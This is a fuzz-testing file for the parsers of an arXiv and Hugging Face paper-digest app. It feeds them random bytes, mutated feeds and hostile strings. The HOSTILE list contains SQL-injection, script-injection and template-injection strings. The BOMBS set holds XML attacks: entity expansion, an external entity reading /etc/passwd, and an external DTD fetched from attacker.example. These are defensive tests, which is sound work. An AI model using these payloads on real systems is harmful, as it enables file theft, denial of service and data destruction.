"""Bad data of every kind into every parser: a clear error or records, never a crash, never a loss."""

import io
import json
from datetime import date
from unittest import mock
from xml.sax.saxutils import escape

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase

from digest.ingest import ingest_source
from digest.models import IngestRun, Paper
from digest.sources.arxiv_api import parse_arxiv_api
from digest.sources.arxiv_oai import parse_arxiv_oai
from digest.sources.arxiv_rss import parse_arxiv_rss
from digest.sources.hf_daily import parse_hf_daily
from digest.sources.hf_page import parse_page_text
from digest.sources.jsonfile import parse_json_papers
from digest.sources.records import FetchError, PaperRecord, RecordError, clean_abstract
from tests.digest.sources import FIXTURES, read_fixture

DAY = date(2026, 6, 12)
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])

PARSERS = {
    "hf_daily": lambda data: parse_hf_daily(data, day=DAY),
    "arxiv_api": parse_arxiv_api,
    "arxiv_rss": lambda data: parse_arxiv_rss(data, day=DAY),
    "arxiv_rss1": lambda data: parse_arxiv_rss(data, day=DAY),
    "arxiv_oai": parse_arxiv_oai,
    "file": lambda data: parse_json_papers(data, announced_on=DAY),
    "hf_page": lambda data: parse_page_text(data.decode("utf-8", "replace"), announced_on=DAY),
}
SEEDS = {
    "hf_daily": "hf_daily_papers_2026-07-31_subset.json",
    "arxiv_api": "arxiv_api_query_transformer-AND-cs.LG_2026-06-14.atom.xml",
    "arxiv_rss": "arxiv_rss_cs.AI_2026-04-27_3items.xml",
    "arxiv_rss1": "arxiv_rss1_hep-ex_2018-05-23_3items.rdf.xml",
    "arxiv_oai": "arxiv_oai_ListRecords_arXiv_physics-plasm-ph_2026-01-05.xml",
    "file": "hf_daily_papers_2024-05-29_legacy.json",
    "hf_page": "hf_page_synthetic_2024-05-06.txt",
}

# Text meant to hurt: markup, entities, NUL and other controls, lone surrogates,
# right-to-left overrides, huge runs, SQL and template syntax.
HOSTILE = st.one_of(
    st.text(),
    st.sampled_from(
        [
            "",
            " ",
            "\x00",
            "\ud800",
            "\u202e",
            "&amp;lt;",
            "&#0;",
            "<script>alert(1)</script>",
            "]]>",
            "{{ 7*7 }}",
            "'; DROP TABLE digest_paper; --",
            "2503.0213",
            "hep-th/9901001v999999",
            "A" * 100_000,
        ]
    ),
)


def _mutate(data: bytes, draw_ops: list[tuple[int, int, bytes]]) -> bytes:
    for position, length, insert in draw_ops:
        position %= max(len(data), 1)
        data = data[:position] + insert + data[position + length :]
    return data


MUTATIONS = st.lists(
    st.tuples(st.integers(0, 200_000), st.integers(0, 400), st.binary(max_size=20)), max_size=6
)


def _parse_or_fail_clearly(source: str, data: bytes) -> None:
    try:
        records, errors = PARSERS[source](data)
    except FetchError as exc:
        assert str(exc)
        return
    assert all(isinstance(r, PaperRecord) for r in records)
    assert all(isinstance(e, str) and e for e in errors)


@pytest.mark.parametrize("source", PARSERS)
@FUZZ
@given(data=st.binary(max_size=2000))
def test_it_survives_random_bytes(source, data):
    _parse_or_fail_clearly(source, data)


@pytest.mark.parametrize("source", PARSERS)
@FUZZ
@given(ops=MUTATIONS, cut=st.integers(0, 200_000))
def test_it_survives_mutated_and_truncated_fixtures(source, ops, cut):
    data = read_fixture(SEEDS[source])
    _parse_or_fail_clearly(source, _mutate(data, ops)[: cut or None])


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | HOSTILE,
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3)
    ),
    max_leaves=8,
)


@FUZZ
@given(
    title=HOSTILE,
    summary=HOSTILE,
    author=HOSTILE,
    paper_id=JSON_VALUES,
    upvotes=JSON_VALUES,
    comments=JSON_VALUES,
    published=JSON_VALUES,
    extra=JSON_VALUES,
)
def test_it_survives_hostile_values_in_hugging_face_items(
    title, summary, author, paper_id, upvotes, comments, published, extra
):
    item = {
        "paper": {
            "id": paper_id,
            "title": title,
            "summary": summary,
            "authors": [{"name": author}, extra],
            "upvotes": upvotes,
            "publishedAt": published,
            "githubRepo": extra,
            "ai_keywords": extra,
            "organization": extra,
        },
        "numComments": comments,
        "publishedAt": published,
    }
    try:
        records, errors = parse_hf_daily(
            json.dumps(item_list := [item]).encode("utf-8", "surrogatepass"), day=DAY
        )
    except FetchError:
        return
    assert len(records) + len(errors) == len(item_list)
    for record in records:
        assert "\x00" not in record.title + record.abstract and record.title.strip()


@FUZZ
@given(title=HOSTILE, abstract=HOSTILE, creator=HOSTILE, category=HOSTILE, pub_date=HOSTILE, guid=HOSTILE)
def test_it_survives_hostile_text_in_rss_items(title, abstract, creator, category, pub_date, guid):
    item = (
        f"<item><title>{escape(title)}</title><description>arXiv:2609.26811v1 Announce Type: new \n"
        f"Abstract: {escape(abstract)}</description><guid>{escape(guid)}</guid><category>{escape(category)}</category>"
        f"<pubDate>{escape(pub_date)}</pubDate><dc:creator>{escape(creator)}</dc:creator></item>"
    )
    body = f'<rss xmlns:dc="http://purl.org/dc/elements/1.1/" version="2.0"><channel>{item}</channel></rss>'
    try:
        records, errors = parse_arxiv_rss(body.encode("utf-8", "surrogatepass"), day=DAY)
    except FetchError:
        return
    assert len(records) + len(errors) == 1
    if records:
        assert records[0].abstract == records[0].abstract.strip()


BOMBS = {
    "billion laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&lol4;</title></entry></feed>""",
    "quadratic blow-up": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><rss>'
    + b"&a;" * 1000
    + b"</rss>",
    "external entity": b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&xxe;</title></entry></feed>""",
    "external DTD": b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd"><rss version="2.0"><channel/></rss>""",
}


@pytest.mark.parametrize("source", ["arxiv_api", "arxiv_rss", "arxiv_oai"])
@pytest.mark.parametrize("bomb", BOMBS)
def test_it_refuses_xml_bombs_before_expanding_them(source, bomb):
    with pytest.raises(FetchError, match="refused unsafe XML"):
        PARSERS[source](BOMBS[bomb])


LATEX_PIECES = st.sampled_from(
    [
        "$",
        "$$",
        "\\",
        "{",
        "}",
        "^",
        "_",
        "%",
        "&",
        "~",
        "``",
        "''",
        "\\left",
        "\\right.",
        "\\begin{array}",
        "\\end{equation*}",
        "\\frac",
        "\\sqrt",
        "\\bar",
        "\\href",
        "\\url{",
        "https://x.org/~a",
        "\\'",
        "x",
        " ",
        "\n\n",
    ]
)


@FUZZ
@given(pieces=st.lists(LATEX_PIECES | st.text(max_size=20), max_size=30))
def test_it_turns_any_latex_soup_into_text_or_a_clear_record_error(pieces):
    text = "".join(pieces)
    try:
        cleaned = clean_abstract(text)
    except RecordError:
        return
    # The converter's private markers never leak (URLs held aside, script extents).
    assert isinstance(cleaned, str) and not any(mark in cleaned for mark in "\ue000\ue001\ue002\ue003")


def test_it_refuses_enormous_and_wrongly_encoded_responses():
    with pytest.raises(FetchError, match="larger than"):
        parse_arxiv_api(b"<feed>" + b" " * (21 * 1024 * 1024) + b"</feed>")
    latin1_in_utf8 = read_fixture(SEEDS["arxiv_api"]).replace(b"Across", "Übersetzt".encode("latin-1"))
    with pytest.raises(FetchError, match="malformed XML"):
        parse_arxiv_api(latin1_in_utf8)
    with pytest.raises(FetchError, match="not UTF-8"):
        parse_hf_daily(read_fixture(SEEDS["hf_daily"]).decode().encode("cp1253"))


def test_it_skips_a_record_with_an_enormous_field_and_keeps_the_rest():
    items = json.loads(read_fixture(SEEDS["hf_daily"]))
    items[0]["paper"]["summary"] = "long " * 10_000
    items[1]["paper"]["authors"] = [{"name": "x" * 1000}]

    records, errors = parse_hf_daily(json.dumps(items).encode())

    assert len(records) == 3
    assert errors == [
        "item 1: abstract longer than 20000 characters",
        "item 2: author name longer than 300 characters",
    ]


def _response(body: bytes) -> requests.Response:
    response = requests.Response()
    response.status_code = 200
    response.raw = io.BytesIO(body)
    return response


class IngestUnderBadDataTests(TestCase):
    """Each example runs in its own transaction, rolled back after it, over the same stored papers."""

    @classmethod
    def setUpTestData(cls):
        ingest_source("hf_daily", path=FIXTURES / SEEDS["hf_daily"])
        ingest_source("arxiv_api", path=FIXTURES / SEEDS["arxiv_api"])

    def _stored(self) -> dict[str, tuple]:
        rows = Paper.objects.values_list(
            "external_id", "title", "abstract", "authors", "categories", "upvotes"
        )
        return {row[0]: row for row in rows}

    @FUZZ
    @given(ops=MUTATIONS, source=st.sampled_from(["hf_daily", "arxiv_api"]))
    def test_it_loses_nothing_stored_whatever_a_mutated_response_holds(self, ops, source):
        before = self._stored()
        body = _mutate(read_fixture(SEEDS[source]), ops)
        kwargs = {"day": DAY} if source == "hf_daily" else {"query": "all:transformer"}
        session = mock.Mock(spec=requests.Session)
        session.get.side_effect = [_response(body), _response(b"")]  # the API may ask for a second page

        with self.settings(SOURCES_ARXIV_MIN_INTERVAL=0, SOURCES_ARXIV_MAX_RESULTS=5):
            run = ingest_source(source, session=session, **kwargs)

        after = self._stored()
        if run.status == IngestRun.Status.FAILED:
            assert after == before
            assert run.errors and run.errors[0]
            return
        assert run.created + run.updated + run.unchanged + run.failed == run.fetched
        for external_id, (_, _title, abstract, authors, categories, _) in before.items():
            kept = after[external_id]
            assert kept[1].strip()
            assert bool(kept[2]) >= bool(abstract) and bool(kept[3]) >= bool(authors)
            assert bool(kept[4]) >= bool(categories)
